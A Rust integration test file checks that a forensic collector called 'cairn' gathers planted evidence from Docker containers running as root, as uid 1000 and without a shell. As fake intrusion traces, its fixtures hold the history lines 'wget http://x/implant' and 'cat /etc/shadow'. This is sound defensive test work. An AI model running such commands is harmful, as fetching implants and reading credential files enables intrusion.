//! The static collector inside real Docker containers built locally (no registry): a
//! busybox image as root, the same as uid 1000 with a read-only root, and a
//! distroless-like image with no shell. The archive leaves through `docker exec ...
//! --output -` and must verify and hold the files planted in the container.
//!
//! Needs `CAIRN_MUSL_BIN` (the static binary; `tests/run-all.sh` builds it) and a
//! Docker daemon. Under CI (`CI=true`) their absence fails the test; locally it skips loudly.

mod common;
use common::docker::*;
use common::*;
use std::process::{Command, Stdio};

#[test]
fn busybox_as_root_and_as_uid_1000_read_only() {
    let Some(bin) = setup() else { return };
    let img = busybox_image();
    let dir = tempfile::tempdir().unwrap();
    let vol = format!("{}:/opt/cairn/cairn-collector:ro", bin.display());

    let name = format!("cairn-bb-root-{}", std::process::id());
    ok(&[
        "run",
        "-d",
        "--network",
        "none",
        "--name",
        &name,
        "-v",
        &vol,
        img,
        "sleep",
        "3600",
    ]);
    let _c = Container(name.clone());
    ok(&["exec", &name, "sh", "-c", "echo 'wget http://x/implant' >> /root/.bash_history; echo 'app started' > /var/log/app.log; echo payload > /tmp/dropped.sh"]);
    let out = collect_via_exec(&name, "/opt/cairn/cairn-collector", None, dir.path());
    let a = Archive::read(&out);
    assert_eq!(
        a.text("files/root/.bash_history"),
        "image-history\nwget http://x/implant\n"
    );
    assert_eq!(a.text("files/var/log/app.log"), "app started\n");
    assert_eq!(a.text("files/tmp/dropped.sh"), "payload\n");
    assert_eq!(a.summary()["identity"]["docker"], true);
    assert_eq!(a.summary()["live"], true);

    let name = format!("cairn-bb-1000-{}", std::process::id());
    ok(&[
        "run",
        "-d",
        "--network",
        "none",
        "--user",
        "1000",
        "--read-only",
        "--tmpfs",
        "/tmp",
        "--name",
        &name,
        "-v",
        &vol,
        img,
        "sleep",
        "3600",
    ]);
    let _c2 = Container(name.clone());
    ok(&[
        "exec",
        &name,
        "sh",
        "-c",
        "echo 'tmp evidence' > /tmp/note.txt && ! touch /var/log/new.log 2>/dev/null",
    ]);
    let out = collect_via_exec(&name, "/opt/cairn/cairn-collector", None, dir.path());
    let a = Archive::read(&out);
    assert_eq!(a.text("files/home/app/.ash_history"), "cat /etc/shadow\n");
    assert_eq!(a.text("files/tmp/note.txt"), "tmp evidence\n");
    assert_eq!(a.text("files/var/log/image.log"), "baked log line\n");
    // uid 1000 cannot enter /root: recorded as a denial, not a failure.
    assert!(
        a.log()
            .iter()
            .any(|l| l["event"] == "denied" && l["path"] == "/root"),
        "{:?}",
        a.log()
    );
}

#[test]
fn distroless_like_image_without_a_shell() {
    let Some(bin) = setup() else { return };
    let dir = tempfile::tempdir().unwrap();
    let ctx = dir.path().join("ctx");
    for d in ["etc", "tmp", "var/log/app"] {
        std::fs::create_dir_all(ctx.join(d)).unwrap();
    }
    std::fs::copy(&bin, ctx.join("cairn-collector")).unwrap();
    std::fs::write(
        ctx.join("etc/passwd"),
        "root:x:0:0:root:/root:/sbin/nologin\nnonroot:x:65532:65532::/home/nonroot:/sbin/nologin\n",
    )
    .unwrap();
    std::fs::write(ctx.join("var/log/app/server.log"), "distroless log line\n").unwrap();
    std::fs::write(
        ctx.join("Dockerfile"),
        "FROM scratch\nCOPY . /\nUSER 65532\nENTRYPOINT [\"/cairn-collector\"]\n",
    )
    .unwrap();
    let img = "cairn-test-distroless:1";
    let st = Command::new("docker")
        .args(["build", "-q", "-t", img, ctx.to_str().unwrap()])
        .env("DOCKER_BUILDKIT", "0")
        .stdout(Stdio::null())
        .status()
        .unwrap();
    assert!(st.success(), "docker build of the distroless-like image");
    let name = format!("cairn-distroless-{}", std::process::id());
    // The image has nothing but the collector; `verify -` blocking on the open stdin
    // stands in for the application process so the container stays up for exec.
    ok(&[
        "run",
        "-d",
        "-i",
        "--network",
        "none",
        "--name",
        &name,
        img,
        "verify",
        "-",
    ]);
    let _c = Container(name.clone());
    let sh = docker(&["exec", &name, "sh", "-c", "true"]);
    assert!(!sh.status.success(), "the image must have no shell");
    let out = collect_via_exec(&name, "/cairn-collector", None, dir.path());
    let a = Archive::read(&out);
    assert_eq!(
        a.text("files/var/log/app/server.log"),
        "distroless log line\n"
    );
    assert!(a.text("files/etc/passwd").contains("nonroot"));
    assert_eq!(a.summary()["collector"]["uid"], 65532);
}

#[test]
fn the_collector_image_holds_only_the_collector_and_loads_into_docker_and_containerd() {
    let Some(bin) = setup() else { return };
    let tag = format!("cairn-collector:test-{}", std::process::id());
    let t = tempfile::tempdir().unwrap();
    let saved = t.path().join("image.tar");
    let script = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../scripts/build-image.sh");
    let o = Command::new("bash")
        .arg(&script)
        .args([
            "--bin",
            bin.to_str().unwrap(),
            "--tag",
            &tag,
            "--containerd",
            "--save",
        ])
        .arg(&saved)
        .output()
        .unwrap();
    let cleanup = || {
        let _ = docker(&["rmi", "-f", &tag]);
        let _ = Command::new("ctr")
            .args([
                "-n",
                "k8s.io",
                "images",
                "rm",
                &format!("docker.io/library/{tag}"),
            ])
            .output();
    };
    assert!(
        o.status.success(),
        "{}{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    );
    let sha = {
        use sha2::Digest;
        hex::encode(sha2::Sha256::digest(std::fs::read(&bin).unwrap()))
    };
    // One layer, the collector's sha256 as a label, the collector as entrypoint.
    let layers = ok(&["image", "inspect", "-f", "{{len .RootFS.Layers}}", &tag]);
    let label = ok(&[
        "image",
        "inspect",
        "-f",
        "{{index .Config.Labels \"io.cairn.collector.sha256\"}}",
        &tag,
    ]);
    let version = ok(&["run", "--rm", "--network", "none", &tag, "--version"]);
    let in_containerd = Command::new("ctr")
        .args(["-n", "k8s.io", "images", "ls", "-q"])
        .output()
        .unwrap();
    let saved_len = std::fs::metadata(&saved).map(|m| m.len()).unwrap_or(0);
    cleanup();
    assert_eq!(layers, "1");
    assert_eq!(label, sha);
    assert!(version.starts_with("cairn-collector "), "{version}");
    assert!(
        String::from_utf8_lossy(&in_containerd.stdout)
            .contains(&format!("docker.io/library/{tag}")),
        "not in containerd"
    );
    assert!(
        saved_len > 1_000_000,
        "the saved image is {saved_len} bytes"
    );
}
